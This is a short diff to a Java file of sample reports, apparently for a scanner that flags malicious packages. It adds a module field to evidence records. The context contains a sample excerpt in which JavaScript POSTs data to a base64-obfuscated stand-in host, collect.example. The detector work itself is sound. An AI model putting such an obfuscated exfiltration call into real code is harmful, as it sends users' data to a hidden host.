@@ -441,7 +441,8 @@ public final class SampleReports {
                 "It is sent to a host that is decoded at run time.",
                 "h.request(atob(\"aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdQ==\"),{method:\"POST\"}).end(b)",
                 List.of(new Decoding("base64", "https://collect.example/u")),
-                false);
+                false,
+                Optional.of("poster@2.1.0"));
     }
 
     private static Evidence in(String file, Evidence evidence) {
@@ -452,6 +453,7 @@ public final class SampleReports {
                 evidence.note(),
                 evidence.excerpt(),
                 evidence.decoded(),
-                evidence.assumed());
+                evidence.assumed(),
+                evidence.module());
     }
 }
